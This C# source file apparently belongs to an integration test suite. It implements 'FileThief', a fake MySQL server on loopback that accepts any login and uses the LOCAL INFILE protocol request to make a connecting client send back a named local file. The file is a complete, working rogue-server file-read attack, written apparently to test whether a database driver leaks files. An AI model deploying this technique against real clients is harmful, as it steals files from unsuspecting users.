using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Speakr.Monitor.IntegrationTests.Databases;

/// <summary>A server that lets everybody in, and answers our first statement by asking for a file of the client.</summary>
internal sealed class FileThief : IAsyncDisposable
{
    private const int LongPassword = 0x1, ConnectWithDatabase = 0x8, LocalFiles = 0x80, Protocol41 = 0x200, Transactions = 0x2000;
    private const int SecureConnection = 0x8000, PluginAuthentication = 0x80000;

    private static readonly byte[] Ok = [0, 0, 0, 2, 0, 0, 0];

    private readonly TcpListener _listener = new(IPAddress.Loopback, 0);

    public FileThief(string file)
    {
        _listener.Start();
        Loot = StealAsync(file);
    }

    public int Port => ((IPEndPoint)_listener.LocalEndpoint).Port;

    /// <summary>What the client answered to the request.</summary>
    public Task<string> Loot { get; }

    public ValueTask DisposeAsync()
    {
        _listener.Stop();
        return ValueTask.CompletedTask;
    }

    private async Task<string> StealAsync(string file)
    {
        using var client = await _listener.AcceptTcpClientAsync();
        var stream = client.GetStream();
        const int flags = LongPassword | ConnectWithDatabase | LocalFiles | Protocol41 | Transactions | SecureConnection | PluginAuthentication;
        byte[] greeting =
        [
            10, .. "8.0.0\0"u8, 1, 0, 0, 0, .. "12345678"u8, 0, flags & 0xff, flags >> 8 & 0xff, 255, 2, 0, flags >> 16 & 0xff, flags >> 24, 21,
            .. new byte[10], .. "123456789012\0"u8, .. "mysql_native_password\0"u8,
        ];
        await SendAsync(stream, 0, greeting);
        await ReadAsync(stream);
        await SendAsync(stream, 2, Ok);
        // The driver's own statements read no answer but OK.
        while (!Encoding.UTF8.GetString(await ReadAsync(stream)).Contains("sql_mode", StringComparison.Ordinal))
            await SendAsync(stream, 1, Ok);

        await SendAsync(stream, 1, [0xfb, .. Encoding.UTF8.GetBytes(file)]);
        var loot = await ReadAsync(stream);
        await SendAsync(stream, 3, Ok);
        return Encoding.UTF8.GetString(loot);
    }

    private static async Task SendAsync(NetworkStream stream, byte number, byte[] packet) =>
        await stream.WriteAsync((byte[])[(byte)packet.Length, (byte)(packet.Length >> 8), 0, number, .. packet]);

    private static async Task<byte[]> ReadAsync(NetworkStream stream)
    {
        var head = new byte[4];
        await stream.ReadExactlyAsync(head);
        var packet = new byte[head[0] | head[1] << 8 | head[2] << 16];
        await stream.ReadExactlyAsync(packet);
        return packet;
    }
}
